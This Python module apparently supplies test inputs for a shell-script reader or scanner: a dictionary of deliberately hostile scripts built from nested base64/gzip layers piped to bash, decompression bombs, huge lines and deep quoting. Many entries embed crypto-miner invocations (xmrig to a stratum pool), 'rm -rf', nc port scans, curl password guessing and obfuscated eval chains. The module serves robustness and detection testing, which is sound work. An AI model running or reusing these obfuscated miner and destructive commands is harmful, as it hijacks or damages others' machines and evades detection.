"""Scripts that are made to keep a reader busy: small ones that unpack hugely, long lines, thousands of everything."""

import base64
import gzip
import zlib

__all__ = ["HOSTILE"]


def _nested(depth: int, inner: bytes) -> str:
    for _ in range(depth):
        inner = b"echo " + base64.b64encode(gzip.compress(inner, mtime=0)) + b" | base64 -d | gunzip | bash\n"
    return inner.decode()


def _bombs(count: int) -> str:
    """Each unpacks to lines that unpack again."""
    bomb = base64.b64encode(zlib.compress(b"curl -s -o x https://a.b/c ; " * 40_000, 9)).decode()
    inner = "\n".join(f"echo {bomb}{number:04}= | base64 -d | zcat | sh" for number in range(count))
    return f"echo {base64.b64encode(gzip.compress(inner.encode(), mtime=0)).decode()} | base64 -d | gunzip | bash\n"


def _many_lines(line: str, size: int = 500_000) -> str:
    return "\n".join(line.replace("@", str(number)) for number in range(size // (len(line) + 4)))


HOSTILE = {
    "base64 in base64": _nested(40, b"xmrig -o pool:3333"),
    "a kilobyte that unpacks to megabytes": _nested(1, b"a=`b`;" * 400_000),
    "bombs in a bomb": _bombs(60),
    "two kilobytes that unpack to thousands of packed words": _nested(
        1, b"\n".join(b"61" * (12 + number % 40) + b"%05x" % number for number in range(20_000))
    ),
    "one line of a megabyte": "echo " + "a; rm -rf $x/ | " * 60_000,
    "one word of a megabyte": "x" * 1_000_000,
    "one quoted megabyte": '"' + "a;b " * 250_000,
    "a line of slashes": "./" + "/" * 500_000 + " -o a.b:3333",
    "a line of options": " -o -u -a --url" * 40_000,
    "a line of digits and dots": "1." * 250_000,
    "escapes": "printf '" + "\\x61" * 120_000 + "' | bash",
    "broken words": "x''" * 170_000,
    "backslashes": "\\a" * 250_000,
    "continued lines": "a \\\n" * 120_000,
    "here-documents": _many_lines("cat <<E@\nxmrig\nE@"),
    "here-documents without an end": _many_lines("cat <<E@"),
    "variables that grow": "\n".join(["A=aaaaaaaaaaaaaaaa", *["A=$A$A"] * 5_000, "echo $A"]),
    "many variables": _many_lines("V@=$V@ ; echo $V@ $V1"),
    "loops": _many_lines("for p@ in $(seq 1 9999); do nc -z h $p@; done"),
    "passwords": _many_lines("while read w@; do curl -u a:$w@ http://h; done"),
    "base64 words": _many_lines("echo YWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFh@ | base64 -d"),
    "base64 lines": _many_lines("YWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFh"),
    "hexadecimal words": _many_lines("6161616161616161616161616161616161616161@"),
    "spaced hexadecimal digits": "xxd -r -p\n" + "61 " * 160_000,
    "rotated words": _many_lines("echo 'kzevt -b cbby@' | tr a-z n-za-m | sh"),
    "deep quoting": "bash -c '" * 5_000 + "xmrig" + "'" * 5_000,
    "quotes": "\"'" * 250_000,
    "brackets": "$(" * 100_000 + ")" * 100_000,
    "addresses": _many_lines("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfN@"),
    "signs in every line": _many_lines("./xmrig -o stratum+tcp://a.b:3333 -u w@ -a rx/0 --donate-level 1"),
    "functions": _many_lines('f@() { "$@"; }; alias a@=env'),
    "written and run": _many_lines("echo x > f@; bash f@"),
    "words of misuse": _many_lines("echo xmrig hashcat miner pool wallet @"),
    "variables of variables": "\n".join(
        ["x0=stra", *(f"x{n}=${{x{n - 1}}}${{x{n - 1}}}" for n in range(1, 4000)), "eval $x3999"]
    ),
    "a command of thousands of variables": "\n".join(
        [*(f"v{n}=stra{n}" for n in range(4000)), "eval " + "".join(f"${{v{n}}}" for n in range(4000))]
    ),
    "an array that grows": "\n".join(["a=(stra)", *['a+=("${a[@]}")'] * 4000, '"${a[@]}"']),
    "functions that call each other": "f() { g stra; g stra; }\ng() { f tum; f tum; }\nf\n" * 500,
    "loops in loops": "for a in stra b c d; do " * 200 + "eval $a" + "; done" * 200,
    "braces in braces": "eval {stra,b,c}" + "{a,b,c}" * 3000,
    "defaults in defaults": "eval stra " + "${a:-" * 20_000 + "}" * 20_000,
    "brackets in an eval": "eval stra " + "(" * 50_000 + ")" * 50_000,
    "quotes in an eval": "eval stra " + "'a'\"b\"" * 30_000,
    "values that name each other": "\n".join(
        [*(f'a{n}="xmrig -o stratum+tcp://p:1 $a{n + 1}"' for n in range(1900)), "$a0"]
    ),
    "documents in files": _many_lines("cat > f@ <<E@\nxmrig -o stratum+tcp://a.b:3333 -u w\nE@\nbash f@"),
    "documents in variables": _many_lines("x@=$(cat <<E\nxmrig -o stratum+tcp://a.b:3333\nE\n)\n$x@"),
    "quotes that never end": _many_lines("x='xmrig -o stratum+tcp://a.b:3333 @"),
    "calls in a language": "python - <<E\n" + "run(['a', " * 60_000 + "\nE",
    "strings of a language": "python - <<E\n" + "os.system('a' " * 40_000 + "\nE",
    "programs of sed": "sed '" + "s,a,b,;/e/p;" * 40_000 + "' f",
    "commands in the words of git": _many_lines("git -c a='./m -s gate.example.ch -n 3333' log @"),
    "settings with hosts": "cat > a.in <<E\n" + "node gate.example.ch\n" * 25_000 + "E\n./m a.in",
    "files with hosts": _many_lines("echo gate.example.ch > f@.in; ./m f@.in"),
    "files that are joined": _many_lines("echo a > a@\ncat a@ a@ > b@\nsh b@"),
}
